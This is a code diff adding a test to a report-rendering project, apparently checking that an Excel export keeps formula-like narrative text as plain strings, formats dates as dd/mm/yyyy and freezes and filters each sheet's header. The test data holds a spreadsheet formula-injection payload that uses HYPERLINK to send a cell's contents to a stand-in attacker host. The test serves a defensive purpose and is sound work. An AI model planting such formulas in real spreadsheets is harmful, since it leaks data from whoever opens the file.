@@ -213,3 +213,27 @@ def test_nfd_text_in_the_database_prints_composed(built):
     # then the PDF carries the composed letters
     assert NARRATIVE in built["flat"]
     assert unicodedata.normalize("NFD", NARRATIVE) not in built["text"]
+
+
+def test_the_compiled_excel_keeps_a_typed_formula_as_text_and_dates_as_dates(built):
+    """Issue 12.2 and 12.15: an agency's narrative written as a formula stays text; the period's
+    days are real dates shown dd/mm/yyyy; every sheet has a frozen, filtered header."""
+    import copy
+    import io
+
+    from openpyxl import load_workbook
+
+    from reports.rendering import render_xlsx
+
+    report = built["report"]
+    figures = copy.deepcopy(report.figures)
+    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem chi tiết")'
+    figures["narratives"][0]["text"] = formula
+    book = load_workbook(io.BytesIO(render_xlsx(report, figures)))
+    narratives = book["Báo cáo của đơn vị"]
+    cell = next(c for c in narratives["C"] if c.value == formula)
+    assert cell.data_type == "s"
+    sent = narratives["B2"]
+    assert isinstance(sent.value, datetime.datetime) and sent.number_format == "DD/MM/YYYY"
+    for sheet in book.worksheets:
+        assert sheet.freeze_panes and sheet.auto_filter.ref
